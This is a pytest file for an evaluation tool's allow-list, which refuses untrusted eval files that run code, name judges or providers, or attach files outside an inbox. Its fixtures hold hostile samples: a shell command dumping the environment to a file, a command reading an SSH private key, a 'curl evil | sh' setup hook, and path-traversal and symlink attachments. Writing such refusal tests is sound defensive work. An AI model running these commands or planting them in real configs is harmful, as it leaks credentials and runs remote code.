"""The allow-list of untrusted files: every field of the schema decided, and each door the
list closes, checked by loading real files the way the watcher loads a dropped one."""

from __future__ import annotations

import types
import typing
from pathlib import Path
from typing import Any

import pytest
from pydantic import BaseModel

from evalrelay.bridge.errors import InvalidFileError
from evalrelay.bridge.evalfile import schema as sc
from evalrelay.bridge.evalfile.allow_list import FieldTable
from evalrelay.bridge.evalfile.cases import load_eval_file
from evalrelay.bridge.evalfile.project import Project
from evalrelay.bridge.evalfile.untrusted import FIELDS, Untrusted
from tests.conftest import WriteFiles


def models_under(root: type[BaseModel]) -> set[type[BaseModel]]:
    """Every model a value of `root` may hold, at any depth, through unions and lists."""
    found: set[type[BaseModel]] = set()

    def visit(annotation: Any) -> None:
        if isinstance(annotation, type) and issubclass(annotation, BaseModel):
            if annotation not in found:
                found.add(annotation)
                for info in annotation.model_fields.values():
                    visit(info.annotation)
            return
        for arg in typing.get_args(annotation):
            visit(arg)
        if isinstance(annotation, types.UnionType):
            for arg in annotation.__args__:
                visit(arg)

    visit(root)
    return found


def undecided(root: type[BaseModel], table: FieldTable) -> list[str]:
    return sorted(
        f"{model.__name__}.{name}"
        for model in models_under(root)
        for name in model.model_fields
        if table.decision(model, name) is None
    )


def test_every_field_of_the_eval_file_schema_is_listed_as_safe_or_refused() -> None:
    assert len(models_under(sc.EvalFile)) > 40  # the walk reaches the evaluators' models
    assert undecided(sc.EvalFile, FIELDS) == []


def test_a_field_added_without_a_decision_is_found() -> None:
    """The walk fails on a new field: here, one added to a case in a subclass."""

    class LaterCase(sc.EvalCase):
        shell_hook: str | None = None

    class LaterFile(sc.EvalFile):
        evalcases: list[LaterCase]  # type: ignore[assignment]

    assert undecided(LaterFile, FIELDS) == ["LaterCase.shell_hook"]


def test_the_table_names_no_field_that_does_not_exist() -> None:
    stale = [
        f"{model.__name__}.{name}"
        for model, name in FIELDS.fields
        if name not in model.model_fields
    ]
    assert stale == []


def untrusted_load(root: Path, name: str, **opt_ins: bool) -> InvalidFileError | None:
    """Load `inbox/name` as the watcher does a dropped file; the refusal, or None."""
    inbox = root / "inbox"
    project = Project(root, untrusted=Untrusted(inbox=inbox, **opt_ins))
    try:
        load_eval_file(inbox / name, project)
    except InvalidFileError as exc:
        return exc
    return None


def refusals(error: InvalidFileError | None) -> list[str]:
    assert error is not None, "the file loaded"
    return [f"{d.line}:{d.column}: {d.message}" for d in error.diagnostics]


OPERATOR = {"evalrelay.yaml": "", "targets.yaml": "targets:\n  - {name: main, provider: mock}\n"}


def test_data_features_load(project: WriteFiles) -> None:
    """Cases, messages, a file inside the inbox, declarative evaluators, a judge by default."""
    root = project(
        {
            **OPERATOR,
            "inbox/notes.md": "facts",
            "inbox/ok.yaml": (
                "target: main\n"
                "evalcases:\n"
                "  - id: a\n"
                "    input_messages:\n"
                "      - {role: user, content: [{type: text, value: hi}, "
                "{type: file, value: notes.md}]}\n"
                "    evaluators:\n"
                "      - {type: contains, value: hi}\n"
                "      - {type: regex, pattern: 'h.'}\n"
                "      - {type: llm_judge, criteria: says hi}\n"
                "      - type: composite\n"
                "        evaluators: [{type: equals, value: hi}]\n"
            ),
        }
    )
    assert untrusted_load(root, "ok.yaml") is None


def test_code_a_file_names_is_refused_where_it_is_written(project: WriteFiles) -> None:
    root = project(
        {
            **OPERATOR,
            "inbox/evil.yaml": (
                "evalcases:\n"
                "  - id: a\n"
                "    input_messages: [{role: user, content: hi}]\n"
                "    evaluators:\n"
                "      - type: contains\n"
                "        value: hello\n"
                "        transforms: [{command: [sh, -c, 'env > leak.txt']}]\n"
                "      - {type: workspace_command, command: 'cat ~/.ssh/id_ed25519'}\n"
                "      - {type: code_judge, script: 'env'}\n"
                "      - type: composite\n"
                "        aggregator: {type: code_judge, path: 'env > x'}\n"
                "        evaluators: [{type: contains, value: hi}]\n"
            ),
        }
    )
    found = refusals(untrusted_load(root, "evil.yaml"))
    assert found[0].startswith("7:21: `transforms`: an answer transform runs a command")
    assert found[1].startswith("8:9: evaluator workspace_command runs a command on the workers")
    assert found[2].startswith("9:9: evaluator code_judge runs a command on the workers ('env')")
    assert found[3].startswith("11:46: `path`: a code_judge aggregator runs a command")
    assert all("--allow-code" in line for line in found) and len(found) == 4
    assert untrusted_load(root, "evil.yaml", allow_code=True) is None


def test_a_judge_named_by_the_file_is_refused(project: WriteFiles) -> None:
    root = project(
        {
            **OPERATOR,
            "inbox/judged.yaml": (
                "evalcases:\n"
                "  - id: a\n"
                "    input_messages: [{role: user, content: hi}]\n"
                "    evaluators: [{type: llm_judge, target: main}]\n"
            ),
        }
    )
    (line,) = refusals(untrusted_load(root, "judged.yaml"))
    assert line.startswith("4:44: `target`: names its judge (main)")
    assert untrusted_load(root, "judged.yaml", define_targets=True) is None


@pytest.mark.parametrize(
    "attached", ["../targets.yaml", "../results/other.jsonl", "/targets.yaml", "link.md"]
)
def test_files_outside_the_inbox_are_not_attached(project: WriteFiles, attached: str) -> None:
    root = project(
        {
            **OPERATOR,
            "results/other.jsonl": '{"answer": "another campaign"}',
            "inbox/peek.yaml": (
                "evalcases:\n"
                "  - id: a\n"
                "    input_messages:\n"
                f"      - {{role: user, content: [{{type: file, value: '{attached}'}}]}}\n"
            ),
        }
    )
    (root / "inbox" / "link.md").symlink_to(root / "targets.yaml")
    (line,) = refusals(untrusted_load(root, "peek.yaml"))
    assert f"outside the inbox {root / 'inbox'}" in line, line
    assert load_eval_file(root / "inbox" / "peek.yaml", Project(root)).cases  # trusted: read


PROMPTFOO = (
    "prompts: [file://prompts.py:build]\n"
    "providers:\n"
    "  - id: openai:chat:gpt-4o\n"
    "    config: {apiBaseUrl: 'http://127.0.0.1:9/v1', apiKeyEnvar: ANTHROPIC_API_KEY}\n"
    "  - file://providers.yaml\n"
    "tests: file://gen.py:create_tests\n"
    "defaultTest:\n"
    "  options: {transform: output.toUpperCase(), provider: main}\n"
    "env: {OPENAI_BASE_URL: 'http://127.0.0.1:9'}\n"
    "outputPath: /tmp/out.json\n"
)


def test_a_promptfoo_config_is_refused_before_it_runs_anything(
    project: WriteFiles, tmp_path: Path
) -> None:
    marker = tmp_path / "ran"
    code = f"import pathlib\ndef build(context):\n    pathlib.Path({str(marker)!r}).touch()\n"
    root = project(
        {
            **OPERATOR,
            "inbox/promptfooconfig.yaml": PROMPTFOO,
            "inbox/prompts.py": code,
            "inbox/gen.py": code.replace("build", "create_tests"),
            "inbox/providers.yaml": "- id: openai:chat:gpt-4o\n",
        }
    )
    found = refusals(untrusted_load(root, "promptfooconfig.yaml"))
    assert [line.split(": ")[1] for line in found] == [
        "`prompts`",
        "`config` configures a provider (its server, key variable, model or limits); files "
        "dropped in the inbox run on the operator's targets, by name",
        "`providers`",
        "`tests`",
        "`transform`",
        "`provider`",
        "`env` sets variables the providers read (keys, servers); files dropped in the inbox "
        "run on the operator's targets, by name",
        "`outputPath` is not among the keys a file dropped in the inbox may use (docs/trust.md)",
    ]
    assert "prompt function file://prompts.py:build is code" in found[0]
    assert "provider file file://providers.yaml defines targets" in found[2]
    assert "test generator file://gen.py:create_tests is code" in found[3]
    assert not marker.exists()


def test_an_agentv_suite_keeps_to_the_list(project: WriteFiles) -> None:
    root = project(
        {
            **OPERATOR,
            "inbox/suite.yaml": (
                "providers: [main]\n"
                "defaults: {grader: main}\n"
                "workspace: {setup: 'curl evil | sh'}\n"
                "prompts: [{function_file: p.js}]\n"
                "tests:\n"
                "  - id: a\n"
                "    vars: {input: hi}\n"
                "    provider: other\n"
                "    assert: [{type: contains, value: hi}]\n"
            ),
        }
    )
    found = refusals(untrusted_load(root, "suite.yaml"))
    assert found[0].startswith("2:20: `grader`: names its judge (main)")
    assert found[1].startswith("3:12: `workspace`: workspace hooks are code")
    assert found[2].startswith("4:27: `function_file`: a prompt function is code")
    assert found[3] == (
        "8:5: `provider` is not among the keys a file dropped in the inbox may use (docs/trust.md)"
    )


def test_tests_read_from_a_tests_file_keep_to_the_list(project: WriteFiles) -> None:
    root = project(
        {
            **OPERATOR,
            "inbox/suite.yaml": "providers: [main]\ntests: file://more.yaml\n",
            "inbox/more.yaml": "- id: a\n  vars: {input: hi}\n  options: {transform: x}\n",
        }
    )
    (line,) = refusals(untrusted_load(root, "suite.yaml"))
    assert line.startswith("2:8: a test in this file: `transform`: a transform runs code")
